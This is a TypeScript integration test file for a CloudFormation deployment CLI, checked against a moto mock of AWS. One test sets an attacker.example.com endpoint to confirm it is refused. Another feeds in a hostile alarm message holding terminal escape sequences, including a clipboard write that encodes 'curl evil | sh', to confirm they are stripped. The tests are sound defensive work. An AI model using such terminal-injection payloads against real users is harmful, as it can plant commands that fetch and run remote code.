import { DescribeStacksCommand, GetTemplateCommand } from '@aws-sdk/client-cloudformation';
import assert from 'node:assert/strict';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, it } from 'node:test';
import type { DeploymentRecord } from '../../src/core/history/record';
import { cli, makeRepo, tempHome, topicTemplate, writeTemplate } from '../support/deployFixture';
import { putAlarm, rawCloudWatch, setAlarm } from '../support/healthFixtures';
import { useMotoRig } from '../support/motoRig';

async function records(home: string, stack = 'orders-dev'): Promise<DeploymentRecord[]> {
  const dir = join(home, 'stacks', '123456789012', 'us-east-1', stack, 'records');
  const names = (await readdir(dir))
    .filter((n) => n.endsWith('.json'))
    .sort()
    .reverse();
  return Promise.all(names.map(async (n) => JSON.parse(await readFile(join(dir, n), 'utf8')) as DeploymentRecord));
}

describe('deploy against moto through the real SDK', () => {
  const { moto, cfn } = useMotoRig();
  let home: string;
  beforeEach(async () => {
    home = await tempHome();
  });

  const deploy = (repo: string, ...extra: string[]) =>
    cli(['deploy', 'dev', '--json', '--endpoint', moto.endpoint, ...extra], { cwd: repo, home });

  it('creates a stack through a CREATE change set, runs the steps first, and records it as stable', async () => {
    const repo = await makeRepo();
    const run = await deploy(repo);
    assert.equal(run.code, 0, run.stderr + run.stdout);
    const types = run.events.map((e) => e.type);
    assert.ok(types.indexOf('step-finished') < types.indexOf('change-set-planned'), 'steps run before the stack');
    const planned = run.events.find((e) => e.type === 'change-set-planned');
    assert.ok(planned && planned.type === 'change-set-planned');
    assert.equal(planned.changeSetType, 'CREATE');
    assert.deepEqual(
      planned.changes.map((c) => [c.action, c.logicalId]),
      [['Add', 'Topic']],
    );
    const log = run.events.filter((e) => e.type === 'log' && e.stream === 'stdout').flatMap((e) => (e.type === 'log' ? e.lines : []));
    assert.ok(log.includes('building dev'));

    const stack = (await cfn.send(new DescribeStacksCommand({ StackName: 'orders-dev' }))).Stacks![0]!;
    assert.equal(stack.StackStatus, 'CREATE_COMPLETE');
    assert.deepEqual(stack.Tags, [{ Key: 'team', Value: 'payments' }]);
    const [record] = await records(home);
    assert.equal(record!.status, 'stable');
    assert.equal(record!.kind, 'deploy');
    assert.equal(record!.template.body, topicTemplate());
    assert.equal(record!.stackId, stack.StackId);
    assert.deepEqual(
      record!.steps.map((s) => [s.name, s.status]),
      [['Build', 'succeeded']],
    );
    assert.match(record!.clientRequestToken!, /^deployguard-deploy-/);
    assert.ok(record!.finishedAt && record!.startedAt <= record!.finishedAt);
    // The operation's stack events are kept with the record, as they were announced, for the
    // panel of a finished run.
    const announced = run.events.flatMap((e) => (e.type === 'stack-event' ? [[e.eventId, e.logicalId, e.status]] : []));
    assert.ok(announced.length > 0, 'moto reported stack events');
    assert.deepEqual(
      record!.stackEvents?.map((e) => [e.eventId, e.logicalId, e.status]),
      announced,
    );
    const finished = run.events.at(-1)!;
    assert.ok(finished.type === 'deployment-finished', finished.type);
    assert.equal(finished.verification, 'unguarded', 'no health checks: stable, and never verified');
    const logText = await readFile(record!.logFile!, 'utf8');
    assert.match(logText, /building dev/);
    assert.match(logText, /Change set deployguard-.*\(CREATE\): Add Topic/);
    assert.match(logText, /stable/);
  });

  it('updates an existing stack (UPDATE change set), keeps outputs readable, and a second identical deploy is unchanged', async () => {
    const repo = await makeRepo();
    assert.equal((await deploy(repo, '--skip-steps')).code, 0);
    await writeTemplate(repo, topicTemplate('v2'));
    const update = await deploy(repo, '--skip-steps');
    assert.equal(update.code, 0, update.stderr);
    const planned = update.events.find((e) => e.type === 'change-set-planned');
    assert.ok(planned?.type === 'change-set-planned' && planned.changeSetType === 'UPDATE');
    const body = (await cfn.send(new GetTemplateCommand({ StackName: 'orders-dev' }))).TemplateBody;
    assert.equal(body, topicTemplate('v2'));
    // Outputs, as CloudFormation reports them, are kept on the record and shown in the log.
    const described = (await cfn.send(new DescribeStacksCommand({ StackName: 'orders-dev' }))).Stacks![0]!.Outputs ?? [];
    const [updated] = await records(home);
    assert.deepEqual(updated!.outputs ?? {}, Object.fromEntries(described.map((o) => [o.OutputKey, o.OutputValue])));
    // moto reports no outputs for stacks created through a change set; the
    // history test checks them on a stack created directly.
    if (described.length > 0) {
      assert.match(updated!.outputs!['TopicArn']!, /^arn:aws:sns:us-east-1:123456789012:orders-dev-v2$/);
      assert.ok(update.events.some((e) => e.type === 'log' && e.lines.some((l) => l.startsWith('Output TopicArn = arn:aws:sns:'))));
    }

    const again = await deploy(repo, '--skip-steps');
    assert.equal(again.code, 0);
    const finished = again.events.find((e) => e.type === 'deployment-finished');
    assert.ok(finished?.type === 'deployment-finished');
    assert.equal(finished.status, 'unchanged');
    const all = await records(home);
    assert.deepEqual(
      all.map((r) => r.status),
      ['unchanged', 'stable', 'stable'],
    );
    const stack = (await cfn.send(new DescribeStacksCommand({ StackName: 'orders-dev' }))).Stacks![0]!;
    assert.equal(stack.StackStatus, 'UPDATE_COMPLETE');
  });

  it('passes parameters (variables resolved), keeps an unset one with UsePreviousValue, and never writes a NoEcho value', async () => {
    const secret = 'sup3r-s3cret-value-42';
    const repo = await makeRepo({ parameters: { Name: 'svc-${env.name}', Secret: '${env:DG_TEST_SECRET}' } });
    const first = await cli(['deploy', 'dev', '--json', '--skip-steps', '--endpoint', moto.endpoint], {
      cwd: repo,
      home,
      env: { DG_TEST_SECRET: secret },
    });
    assert.equal(first.code, 0, first.stderr);
    const stack = (await cfn.send(new DescribeStacksCommand({ StackName: 'orders-dev' }))).Stacks![0]!;
    const params = Object.fromEntries(stack.Parameters!.map((p) => [p.ParameterKey, p.ParameterValue]));
    assert.equal(params['Name'], 'svc-dev');

    // Now drop Secret from the file: the update must keep the stack's value, not the default.
    const repo2 = await makeRepo({ parameters: { Name: 'svc-${env.name}' } });
    await writeTemplate(repo2, topicTemplate('v2'));
    const second = await deploy(repo2, '--skip-steps');
    assert.equal(second.code, 0, second.stderr);
    const [latest] = await records(home);
    assert.deepEqual(latest!.parameters, [
      { key: 'Name', value: 'svc-dev' },
      { key: 'Secret', usePreviousValue: true, noEcho: true },
    ]);
    const after = (await cfn.send(new DescribeStacksCommand({ StackName: 'orders-dev' }))).Stacks![0]!;
    assert.equal(Object.fromEntries(after.Parameters!.map((p) => [p.ParameterKey, p.ParameterValue]))['Secret'], secret);

    // The secret appears nowhere Deploy Guard writes: not in events, not in any history file.
    assert.ok(!first.stdout.includes(secret));
    const files = await readdir(join(home, 'stacks', '123456789012', 'us-east-1', 'orders-dev'), { recursive: true });
    for (const f of files) {
      const path = join(home, 'stacks', '123456789012', 'us-east-1', 'orders-dev', f);
      const text = await readFile(path, 'utf8').catch(() => '');
      assert.ok(!text.includes(secret), `${f} contains the NoEcho value`);
    }
  });

  it('refuses a template over 51,200 bytes without templateBucket before any AWS call', async () => {
    const padding = `  # ${'x'.repeat(100)}\n`.repeat(520);
    const repo = await makeRepo({ template: topicTemplate('v1', padding) });
    const run = await deploy(repo, '--skip-steps');
    // The pipeline validator already refuses it with a position; the engine checks again (unit test).
    assert.equal(run.code, 2);
    assert.match(run.stderr, /51,200/);
    assert.match(run.stderr, /templateBucket/);
    const stacks = (await cfn.send(new DescribeStacksCommand({}))).Stacks ?? [];
    assert.equal(stacks.length, 0);
  });

  it('refuses a template over 1 MB even with templateBucket, and a parameter value over 4,096 characters, before any AWS call', async () => {
    const huge = `  # ${'x'.repeat(100)}\n`.repeat(10_500);
    const big = await makeRepo({ template: topicTemplate('v1', huge), extraStack: '  templateBucket: dg-artifacts\n' });
    const tooBig = await deploy(big, '--skip-steps');
    assert.equal(tooBig.code, 2, tooBig.stderr);
    assert.match(tooBig.stderr, /is 1,\d{3},\d{3} bytes; CloudFormation takes at most 1,048,576 \(1 MB\), even from S3/);

    const long = await makeRepo({ parameters: { Name: '${env:LONG_NAME}' } });
    const tooLong = await cli(['deploy', 'dev', '--skip-steps', '--endpoint', moto.endpoint], {
      cwd: long,
      home,
      env: { LONG_NAME: 'n'.repeat(5000) },
    });
    assert.equal(tooLong.code, 2, tooLong.stderr);
    assert.match(tooLong.stderr, /Parameter Name is 5,000 characters; CloudFormation accepts at most 4,096/);
    assert.equal(((await cfn.send(new DescribeStacksCommand({}))).Stacks ?? []).length, 0);
  });

  it('deploys a large template through S3 when stack.templateBucket is set', async () => {
    const { S3Client, CreateBucketCommand } = await import('@aws-sdk/client-s3');
    const s3 = new S3Client({
      region: 'us-east-1',
      endpoint: moto.endpoint,
      forcePathStyle: true,
      credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' },
    });
    await s3.send(new CreateBucketCommand({ Bucket: 'dg-artifacts' }));
    s3.destroy();
    const padding = `  # ${'x'.repeat(100)}\n`.repeat(520);
    const repo = await makeRepo({ template: topicTemplate('v1', padding), extraStack: '  templateBucket: dg-artifacts\n' });
    const run = await deploy(repo, '--skip-steps');
    assert.equal(run.code, 0, run.stderr + run.stdout.slice(-2000));
    const body = (await cfn.send(new GetTemplateCommand({ StackName: 'orders-dev' }))).TemplateBody!;
    assert.ok(body.length > 51_200);
    const [record] = await records(home);
    assert.equal(record!.status, 'stable');
    assert.match(record!.template.url!, /^http:\/\/localhost:\d+\/dg-artifacts\/deployguard\/orders-dev\/[0-9a-f]{64}\.template$/);
  });

  it('refuses an endpoint in deployguard.yaml that is not loopback (a repository must not redirect signed requests)', async () => {
    const repo = await makeRepo({ extraEnvironment: '    endpoint: http://attacker.example.com:5000\n' });
    const run = await cli(['deploy', 'dev', '--skip-steps'], { cwd: repo, home });
    assert.equal(run.code, 2);
    assert.match(run.stderr, /not a loopback address/);
    assert.equal(((await cfn.send(new DescribeStacksCommand({}))).Stacks ?? []).length, 0);
  });

  it('honours a loopback endpoint written in deployguard.yaml, and AWS_ENDPOINT_URL', async () => {
    const repo = await makeRepo({ extraEnvironment: `    endpoint: ${moto.endpoint}\n` });
    const viaFile = await cli(['deploy', 'dev', '--skip-steps'], { cwd: repo, home });
    assert.equal(viaFile.code, 0, viaFile.stderr);
    // No health checks: the version went out and nothing verified it, so it is not called stable.
    assert.match(viaFile.stdout, /^✔ deployed, not verified \(the environment has no health checks\): The stack is CREATE_COMPLETE \(/m);
    const repo2 = await makeRepo({ stackName: 'other-${env.name}' });
    const viaEnv = await cli(['deploy', 'dev', '--skip-steps'], { cwd: repo2, home, env: { AWS_ENDPOINT_URL: moto.endpoint } });
    assert.equal(viaEnv.code, 0, viaEnv.stderr);
    const names = ((await cfn.send(new DescribeStacksCommand({}))).Stacks ?? []).map((s) => s.StackName).sort();
    assert.deepEqual(names, ['orders-dev', 'other-dev']);
  });

  it('a failing step ends the run as failed without touching the stack', async () => {
    const repo = await makeRepo({ steps: '\n  - name: Test\n    run: echo boom; exit 3' });
    const run = await deploy(repo);
    assert.equal(run.code, 1);
    const stacks = (await cfn.send(new DescribeStacksCommand({}))).Stacks ?? [];
    assert.equal(stacks.length, 0);
    const [record] = await records(home);
    assert.equal(record!.status, 'failed');
    assert.match(record!.reason!, /exit code 3.*not touched/);
  });

  it('history lists records newest first with the documented fields', async () => {
    const repo = await makeRepo();
    await deploy(repo, '--skip-steps');
    await writeTemplate(repo, topicTemplate('v2'));
    await deploy(repo, '--skip-steps');
    const run = await cli(['history', 'dev', '--json', '--endpoint', moto.endpoint], { cwd: repo, home });
    assert.equal(run.code, 0, run.stderr);
    const lines = run.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    assert.equal(lines.length, 2);
    for (const key of ['id', 'environment', 'stack', 'status', 'commit', 'reason', 'startedAt', 'finishedAt'])
      assert.ok(key in lines[0]!, key);
    assert.ok(String(lines[0]!['id']) > String(lines[1]!['id']), 'newest first');
    assert.equal(lines[0]!['current'], true);
    const text = await cli(['history', 'dev', '--endpoint', moto.endpoint], { cwd: repo, home });
    assert.match(text.stdout, /^\* \d{8}T/m);
  });

  it('prints an alarm reason from AWS without its escapes: no clipboard write, no screen clear, the bidi override shown', async () => {
    const cw = rawCloudWatch(moto.endpoint);
    try {
      await putAlarm(cw, 'orders-hostile');
      const hostile = 'Threshold Crossed\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[H: 1 datapoint \u202etxt.exe';
      await setAlarm(cw, 'orders-hostile', 'ALARM', hostile);
      const repo = await makeRepo({ extraEnvironment: '    health:\n      alarms: [orders-hostile]\n' });
      const run = await cli(['deploy', 'dev', '--skip-steps', '--endpoint', moto.endpoint], { cwd: repo, home });
      assert.equal(run.code, 1, run.stderr + run.stdout);
      const printed = run.stdout + run.stderr;
      assert.match(printed, /orders-hostile \(Threshold Crossed: 1 datapoint ⟨U\+202E⟩txt\.exe\)/);
      assert.ok(!printed.includes('\x1b') && !printed.includes('\u202e'), JSON.stringify(printed));
      assert.equal(((await cfn.send(new DescribeStacksCommand({}))).Stacks ?? []).length, 0);
    } finally {
      cw.destroy();
    }
  });

  it('an environment pinned to another account is refused before any AWS write, naming both accounts; a matching pin deploys', async () => {
    // moto's STS answers with account 123456789012.
    const other = await makeRepo({ steps: '\n  - name: Build\n    run: echo STEP-RAN', extraEnvironment: '    account: "111111111111"\n' });
    for (const command of [
      ['deploy', 'dev'],
      ['rollback', 'dev'],
      ['recover', 'dev'],
    ]) {
      const run = await cli([...command, '--endpoint', moto.endpoint], { cwd: other, home });
      assert.equal(run.code, 1, `${command.join(' ')}: ${run.stderr}${run.stdout}`);
      assert.match(
        run.stderr,
        /Environment dev is pinned to account 111111111111 but the credentials are for 123456789012: sign in to the right account or profile/,
      );
      assert.doesNotMatch(run.stdout + run.stderr, /STEP-RAN/);
    }
    assert.equal(((await cfn.send(new DescribeStacksCommand({}))).Stacks ?? []).length, 0);
    assert.deepEqual(await readdir(join(home, 'stacks')).catch(() => []), [], 'no history opened under the wrong account');

    const pinned = await makeRepo({ extraEnvironment: '    account: "123456789012"\n' });
    const run = await cli(['deploy', 'dev', '--endpoint', moto.endpoint], { cwd: pinned, home });
    assert.equal(run.code, 0, run.stderr + run.stdout);
    const [record] = await records(home);
    assert.equal(record!.status, 'stable');
  });
});
